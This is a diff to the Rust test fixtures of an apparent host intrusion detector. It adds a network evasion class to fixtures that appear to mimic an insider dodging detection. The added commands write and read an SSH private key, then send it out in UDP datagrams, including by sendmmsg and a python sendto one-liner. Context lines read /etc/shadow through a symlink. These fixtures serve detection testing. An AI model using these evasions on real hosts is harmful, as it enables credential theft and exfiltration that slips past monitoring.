@@ -33,6 +33,9 @@ pub enum EvasionClass {
     /// How a process leaves its session: the login uid rewritten, daemonised children, a
     /// scheduler, a container, another SSH login.
     Scope,
+    /// How traffic leaves without looking like a connection: a datagram addressed with no
+    /// connect(2), several destinations in one call, the 32-bit ABI.
+    Network,
 }
 
 impl EvasionClass {
@@ -41,6 +44,7 @@ impl EvasionClass {
             EvasionClass::Naming => "how a file is named or reached",
             EvasionClass::Program => "how a program is identified",
             EvasionClass::Scope => "how a process leaves its session",
+            EvasionClass::Network => "how traffic leaves the host",
         }
     }
 }
@@ -311,7 +315,7 @@ impl Fixtures {
     }
 
     /// Ways around the detections by an insider who has read the source, each a real session:
-    /// at least 25, across the three classes.
+    /// at least 25, across the four classes.
     pub fn evasions(&self) -> Vec<Evasion> {
         use EvasionClass::*;
         let d = self.dir.display();
@@ -321,6 +325,8 @@ impl Fixtures {
         let copy = |from: &str, name: &str| format!("cp {from} {d}/{name} && chmod 755 {d}/{name}");
         let shadow = "/etc/shadow";
         let host_key = "/etc/ssh/ssh_host_ed25519_key";
+        let (sink, ip) = (self.sink_port, &self.outbound_ip);
+        let key = "mkdir -p ~/.ssh && echo K > ~/.ssh/id_rsa && cat ~/.ssh/id_rsa > /dev/null";
         vec![
             // --- how a file is named or reached -------------------------------------------
             ev(Naming, s("symlink", &format!("ln -sf /etc/shadow {d}/notes && cat {d}/notes > /dev/null"), "credential-store-read", "T1003.008")).at(shadow),
@@ -388,6 +394,11 @@ impl Fixtures {
             // TCP Fast Open connects in the first send: no connect(2) at all.
             ev(Scope, s("ssh to localhost by TCP Fast Open", "\"$VIGIL_TEST_HELPER\" fast-open 127.0.0.1:22 2>/dev/null; true", "session-escape-ssh-localhost", "T1021.004")),
             ev(Scope, s("ssh to localhost by TCP Fast Open through socketcall", "\"$VIGIL_TEST_HELPER\" int80 fast-open 127.0.0.1:22 2>/dev/null; true", "session-escape-ssh-localhost", "T1021.004")).also("compat-syscall-in-session"),
+            // --- how traffic leaves the host ----------------------------------------------
+            // A key read, then sent away in UDP datagrams addressed with no connect(2).
+            ev(Network, s("key sent in a UDP datagram", &format!("{key} && \"$VIGIL_TEST_HELPER\" datagrams {ip}:{sink} > /dev/null"), "bulk-read-then-outbound", "T1041")),
+            ev(Network, s("key sent by sendmmsg behind a local decoy", &format!("{key} && \"$VIGIL_TEST_HELPER\" datagrams --mmsg 127.0.0.1:9 {ip}:{sink} > /dev/null"), "bulk-read-then-outbound", "T1041")),
+            ev(Network, s("key sent by python's sendto", &format!("{key} && python3 -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'k', ('{ip}', {sink}))\""), "bulk-read-then-outbound", "T1041")),
         ]
     }
 
